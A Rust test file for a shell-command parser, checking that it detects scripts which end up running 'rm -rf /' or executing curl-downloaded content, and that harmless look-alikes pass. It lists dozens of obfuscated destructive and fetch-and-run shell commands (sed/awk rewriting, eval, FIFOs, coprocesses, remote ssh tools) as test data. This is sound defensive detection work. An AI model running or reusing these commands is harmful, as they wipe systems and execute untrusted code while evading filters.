//! What flows into a shell by other ways than straight through one pipe: filters, groups, functions, files, named pipes,
//! descriptors and coprocesses.

use mentci_shell::{Command, Limits, parse};

/// Whether the text runs `rm -rf /`.
fn runs_it(text: &str) -> bool {
    parse(text, Limits::default()).commands.iter().any(|command| {
        command.program == "rm"
            && command.has_flag(&["recursive"])
            && command.operands.iter().any(|word| word.text == "/")
    })
}

/// Whether the text runs what `curl` brings.
fn runs_download(text: &str) -> bool {
    let from_curl = |command: &Command| command.code_from.iter().any(|program| program == "curl");
    parse(text, Limits::default()).commands.iter().any(from_curl)
}

/// Each runs `rm -rf /`.
const RUN: &[&str] = &[
    // Filters between a text and a shell.
    "echo 'xrm -rf /' | sed 's/^x//' | sh",
    "echo 'A B C' | sed -e 's/A/rm/' -e 's/B/-rf/' -e 's#C#/#' | sh",
    "echo '(A)' | sed -E 's/(A)/rm -rf \\//' | sh",
    "echo x | sed 'c rm -rf /' | sh",
    "echo 'ab cde f' | sed 'y/abcdef/rm-rf\\//' | sh",
    "sed -n 's/^# //p' <<< '# rm -rf /' | sh",
    "seq 1 | sed 's/1/rm -rf \\//' | sh",
    "ls / | sed 's/.*/rm -rf \\//' | sh",
    "echo 'x;rm -rf /' | cut -d';' -f2 | sh",
    "echo 'xxrm -rf /' | cut -c3- | sh",
    "printf 'ls\\nrm -rf /\\n' | tail -n 1 | sh",
    "printf 'ls\\nrm -rf /\\n' | tail -n +2 | bash",
    "printf 'rm -rf /\\nls\\n' | head -1 | sh",
    "echo 'xxrm -rf /' | tail -c +3 | sh",
    "echo 'rm -rf /' | awk '{print}' | sh",
    "echo '/ -rf rm' | awk '{print $3,$2,$1}' | sh",
    "echo 'rm:-rf:/' | awk -F: '{print $1\" \"$2\" \"$3}' | sh",
    "awk 'BEGIN{printf \"rm -rf %s\\n\", \"/\"}' | sh",
    "ls | awk '{print \"rm -rf /\"; print $1}' | sh",
    "echo 'rm -rf Z' | perl -pe 's/Z/\\//' | sh",
    "echo 'rm -rf /' | grep rm | sort -u | uniq | tac | sh",
    "echo 'rm -rf /' | tee log | sh",
    "echo 'r_m -r_f /' | tr -d _ | sh",
    "echo 'RM -RF /' | tr '[:upper:]' '[:lower:]' | sh",
    "printf %b '\\0162\\0155 -rf /' | sh",
    "yes 'rm -rf /' | head -1 | sh",
    "printf 'rm -rf %s\\n' \"/\" | cat - | sh",
    "cat <<'E' | sed 's/^x//' | sh\nxrm -rf /\nE",
    "sed 's/^> //' <<'E' | bash\n> rm -rf /\nE",
    "echo 'rm -rf /' | xargs -0 sh -c",
    "echo 'rm -rf /' | xargs -d '\\n' -n1 bash -c",
    "python3 -c 'print(\"rm -rf /\")' | sh",
    "node -e 'console.log(\"rm -rf /\")' | sh",
    // In the place of words.
    "echo 'rm -rf /' | sh -c \"$(cat)\"",
    "echo 'rm -rf /' | eval \"$(cat)\"",
    "eval \"$(echo 'xrm -rf /' | sed s/x//)\"",
    "bash -c \"$(perl -e 'print \"rm -rf /\"')\"",
    "bash <(echo 'xrm -rf /' | sed s/x//)",
    "bash <<< \"$(echo 'xrm -rf /' | sed s/x//)\"",
    "$(echo 'xrm' | cut -c2-) -rf /",
    "x=$(echo 'xrm -rf /' | sed s/x//); eval \"$x\"",
    // Groups and functions.
    "{ echo 'rm -rf /'; } | sh",
    "(echo 'rm -rf /' | cat) | sh",
    "{ { echo 'rm -rf /'; } 2>&1; } | { { sh; }; }",
    "if x; then echo 'rm -rf /'; fi | sh",
    "for i in 1 2; do echo 'rm -rf /'; done | sh",
    "case x in x) echo 'rm -rf /';; esac | sh",
    "echo 'rm -rf /' | (cd x && sh)",
    "echo 'rm -rf /' | { cat | bash; }",
    "echo 'rm -rf /' | if x; then sh; fi",
    "echo 'rm -rf /' | while true; do sh; done",
    "f() { echo 'rm -rf /'; }; f | sh",
    "f() { echo 'rm -rf /'; }; eval \"$(f)\"",
    "f() { sh; }; echo 'xrm -rf /' | sed s/x// | f",
    "printf 'a\\n/\\n' | while read -r d; do rm -rf \"$d\"; done",
    "x=(rm -rf /); \"${x[@]}\"",
    // Files.
    "{ echo 'rm -rf /'; } > x; sh x",
    "echo 'rm -rf /' > x; bash -c \"$(< x)\"",
    "echo 'rm -rf /' | dd of=x; sh x",
    "echo 'rm -rf /' > x; mv x y; sh y",
    "echo 'rm -rf /' > x; cp x y; cat y | sh",
    "sed 's/a/b/' <<< 'rm -rf /' > x; sh x",
    "echo 'xrm -rf /' | sed s/x// | tee x; sh x",
    // Named pipes, descriptors and coprocesses.
    "mkfifo p; sh < p & echo 'rm -rf /' > p",
    "mkfifo p && (bash < p &) && echo 'rm -rf /' > p",
    "mkfifo ./p; bash p & printf 'rm -rf /' > p",
    "mknod p p; cat p | sh & echo 'rm -rf /' | tee p",
    "exec > >(sh); echo 'rm -rf /'",
    "exec 3> >(bash); echo 'rm -rf /' >&3",
    "exec 3> >(bash); printf 'rm -rf %s' / 1>&3",
    "coproc sh; echo 'rm -rf /' >&${COPROC[1]}",
    "coproc S { bash; }; echo 'rm -rf /' >&\"${S[1]}\"",
    // Machines and editors.
    "vagrant ssh -c 'rm -rf /'",
    "gcloud compute ssh vm --command='rm -rf /'",
    "heroku run 'rm -rf /'",
    "fly ssh console -C 'rm -rf /'",
    "aws ssm send-command --parameters 'commands=[\"ls\",\"rm -rf /\"]'",
    "aws ssm send-command --parameters '{\"commands\":[\"rm -rf /\"]}'",
    "flatpak-spawn --host rm -rf /",
    "git difftool -x 'rm -rf /'",
    "emacs --batch --eval '(delete-directory \"/\" t)'",
    "vim -es -c 'call delete(\"/\", \"rf\")'",
    "osascript -e 'tell app \"Terminal\" to do script \"rm -rf /\"'",
];

#[test]
fn what_comes_to_a_shell_by_whatever_way_is_read() {
    let missed: Vec<&&str> = RUN.iter().filter(|text| !runs_it(text)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

/// Each runs what `curl` brings.
const DOWNLOADS: &[&str] = &[
    "sh < <(curl x)",
    "(curl x) | (sh)",
    "{ curl x; echo; } | { bash; }",
    "curl x | tail -n +2 | bash",
    "f() { curl x; }; f | sh",
    "f() { curl x; }; eval \"$(f)\"",
    "x=$(curl y); echo \"$x\" | sh",
    "curl x > y; bash < y",
    "curl x > y; cat y | sh",
    "curl x > y; bash -c \"$(cat y)\"",
    "curl x > y; bash -c \"$(< y)\"",
    "curl x > y; eval \"$(sed 1d y)\"",
    "curl x > y; mv y z; bash z",
    "curl x > y; sed 1d y > z; sh z",
    "curl x | dd of=y; sh y",
    "curl x | sponge y; sh y",
    "curl -o y x; zcat y | sh",
    "curl -o y x; cat y | python3",
    "curl -o y x; xargs -a y -I{} sh -c {}",
    "mkfifo p; curl x > p & sh < p",
    "mkfifo p; sh < p & curl x > p",
    "mkfifo p; sh < p & curl x | tee p",
    "exec 3> >(sh); curl x >&3",
    "exec > >(bash) && curl x",
];

#[test]
fn what_is_brought_by_whatever_way_is_told() {
    let missed: Vec<&&str> = DOWNLOADS.iter().filter(|text| !runs_download(text)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

/// None runs `rm -rf /`, nor what `curl` brings.
const DATA: &[&str] = &[
    "echo 'rm -rf /' | sed 's/^/> /'",
    "echo 'rm -rf /' | sed s/x/y/ | grep rm | tee log",
    "echo 'rm -rf /' | sed 's/^/echo /' | sh",
    "{ echo 'rm -rf /'; } | sort",
    "f() { echo 'rm -rf /'; }; f | cat",
    "echo 'rm -rf /' | while read -r l; do echo \"$l\"; done",
    "printf 'a\\nb\\n' | while read -r d; do rm -rf \"$d\"; done",
    "mkfifo p; cat < p & echo 'rm -rf /' > p",
    "exec > >(tee log); echo 'rm -rf /'",
    "exec 3> >(sh); exec 3>&-; echo 'rm -rf /' >&3",
    "exec 3> log; echo 'rm -rf /' >&3",
    "coproc bc; echo 'rm -rf /' >&${COPROC[1]}",
    "x=$(echo 'rm -rf /' | sed s/x/y/); echo \"$x\"",
    "diff <(echo 'rm -rf /' | sed s/x/y/) <(ls)",
    "echo 'rm -rf /' > x; cp x y; cat y",
    "vagrant ssh -c 'uptime'",
    "curl x > y; jq . y | sort",
    "curl x > y; python3 z.py < y",
    "curl x > y; cat y | python3 -m json.tool",
    "x=$(curl y); echo \"$x\" | jq .",
    "curl x > y; sh build.sh",
    "(curl x) | (grep y)",
];

#[test]
fn what_comes_to_no_shell_is_data() {
    let wrong: Vec<&&str> = DATA.iter().filter(|text| runs_it(text) || runs_download(text)).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Files that a search finds, line by line.
#[test]
fn what_a_loop_reads_is_known_by_who_wrote_it() {
    let script = parse("find ~ -type f | while read -r f; do rm -f \"$f\"; done", Limits::default());
    let rm = script.commands.iter().find(|command| command.program == "rm");
    assert_eq!(rm.unwrap().operands[0].output_of, ["find"]);
}

#[test]
fn following_stays_linear() {
    for (start, part, end) in [
        ("", "echo a | ", "sh"),
        ("", "{ echo a; } | ", "sh"),
        ("echo a", " | (", ""),
        ("echo 'rm x' | x ", "$(cat) ", ""),
        ("echo x | sed '", "s/x/xx/g;", "' | sh"),
        ("echo x | sed '", "s/.*/&&/;", "' | sh"),
        ("echo x | awk '", "{print $0 $0}", "' | sh"),
        ("mkfifo p; ", "echo ls > p; ", ""),
        ("mkfifo p; sh < p & ", "echo ls > p; ", ""),
        ("exec > >(sh); ", "echo ls; ", ""),
        ("", "f() { echo a; f | f; }; f | sh; ", ""),
        ("", "echo a > x; cp x y; cat y | sh; ", ""),
    ] {
        let steps =
            |times: usize| parse(&format!("{start}{}{end}", part.repeat(times)), Limits::default()).steps;
        let (small, large) = (steps(100), steps(1000));
        assert!(large < 40 * small + 200_000, "{start}{part}: {small} -> {large}");
    }
}
